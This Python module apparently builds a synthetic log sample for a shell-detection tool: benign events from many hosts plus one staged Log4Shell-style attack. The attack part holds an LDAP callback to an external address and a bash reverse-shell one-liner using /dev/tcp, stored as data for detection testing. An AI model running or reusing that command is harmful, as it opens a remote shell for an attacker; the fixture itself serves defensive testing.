"""The bundled sample: one Log4Shell-style attack amid benign traffic from many hosts.

``python -m shellwatch.samples.build > src/shellwatch/samples/sample-attack.ndjson`` regenerates the
file; a test checks the committed file is exactly this output.
"""

from __future__ import annotations

import random
import sys
from typing import Any

import orjson

from shellwatch.samples.ecs_factory import connection, execution

__all__ = ["ATTACKED_HOST", "sample_documents"]

START_MS = 1_732_406_400_000  # 2024-11-24T00:00:00Z
ATTACKED_HOST = "6f1c2a9e-41b7-4d7c-9a0e-3b2d5c8e7f10"
_SERVICES = ["/usr/sbin/nginx", "/usr/sbin/sshd", "/usr/bin/python3.11", "/usr/lib/postgresql/15/bin/postgres"]


def sample_documents(hosts: int = 40, per_host: int = 25, seed: int = 7) -> list[dict[str, Any]]:
    rng = random.Random(seed)
    host_ids = [f"{rng.getrandbits(128):032x}" for _ in range(hosts)] + [ATTACKED_HOST]
    docs: list[tuple[int, int, dict[str, Any]]] = []
    counter = 0

    def add(doc: dict[str, Any]) -> None:
        nonlocal counter
        counter += 1
        docs.append((0, counter, doc))

    for host_id in host_ids:
        clock = START_MS + rng.randrange(0, 2_000)
        for index in range(per_host):
            clock += rng.randrange(50, 900)
            event_id = f"{host_id[:8]}-{index:04d}"
            roll = rng.random()
            if roll < 0.45:
                add(
                    connection(
                        ts_ms=clock,
                        host_id=host_id,
                        pid=rng.randrange(300, 9000),
                        dest_ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                        event_id=event_id,
                        executable=rng.choice(_SERVICES),
                        dest_port=443,
                    )
                )
            elif roll < 0.7:
                # Java talking to its database on a private address: the sequence's first stage fails.
                add(
                    connection(
                        ts_ms=clock, host_id=host_id, pid=4242, dest_ip="172.20.3.14", event_id=event_id, dest_port=5432
                    )
                )
            elif roll < 0.85:
                add(
                    execution(
                        ts_ms=clock,
                        host_id=host_id,
                        pid=rng.randrange(9000, 30000),
                        parent_pid=1,
                        event_id=event_id,
                        name="logrotate",
                        args=["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                        parent_executable="/usr/lib/systemd/systemd",
                        parent_args=["/sbin/init"],
                    )
                )
            else:
                # Jenkins runs build steps through sh: excluded by the rule's own launcher list.
                add(
                    execution(
                        ts_ms=clock,
                        host_id=host_id,
                        pid=rng.randrange(9000, 30000),
                        parent_pid=777,
                        event_id=event_id,
                        name="sh",
                        args=["/bin/sh", "-xe", "/tmp/jenkins123.sh"],
                        parent_args=[
                            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                            "-jar",
                            "/usr/share/java/jenkins.war",
                        ],
                    )
                )
    attack_ms = START_MS + 6_000
    add(
        connection(
            ts_ms=attack_ms,
            host_id=ATTACKED_HOST,
            pid=4242,
            dest_ip="185.220.101.4",
            event_id="attack-ldap-callback",
            dest_port=1389,
        )
    )
    add(
        execution(
            ts_ms=attack_ms + 1_180,
            host_id=ATTACKED_HOST,
            pid=31337,
            parent_pid=4242,
            event_id="attack-reverse-shell",
            name="bash",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
        )
    )
    ordered = sorted(docs, key=lambda item: (item[2]["@timestamp"], item[1]))
    return [doc for _, _, doc in ordered]


def main() -> None:
    for doc in sample_documents():
        sys.stdout.buffer.write(orjson.dumps(doc) + b"\n")


if __name__ == "__main__":
    main()
